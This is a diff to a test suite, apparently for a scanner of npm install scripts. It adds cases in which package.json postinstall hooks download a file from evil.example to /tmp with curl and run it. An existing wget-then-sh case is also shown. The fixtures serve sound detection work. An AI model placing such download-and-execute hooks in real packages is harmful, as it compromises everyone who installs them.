@@ -128,6 +128,16 @@ const malicious: Case[] = [
     expect: { 'install-scripts/download-execute': 'critical' },
   },
   {
+    name: 'download with bundled curl options, chmod +x and run',
+    files: { 'package.json': pkg({ postinstall: 'curl -fsSLo /tmp/updater https://evil.example/u && chmod +x /tmp/updater && /tmp/updater' }) },
+    expect: { 'install-scripts/download-execute': 'critical' },
+  },
+  {
+    name: 'download with the file glued to the option bundle, then run it',
+    files: { 'package.json': pkg({ postinstall: 'curl -sLo/tmp/updater https://evil.example/u; sh /tmp/updater' }) },
+    expect: { 'install-scripts/download-execute': 'critical' },
+  },
+  {
     name: 'wget to a file then run it with sh',
     files: { 'package.json': pkg({ preinstall: 'wget https://evil.example/run.sh; sh run.sh' }) },
     expect: { 'install-scripts/download-execute': 'critical' },
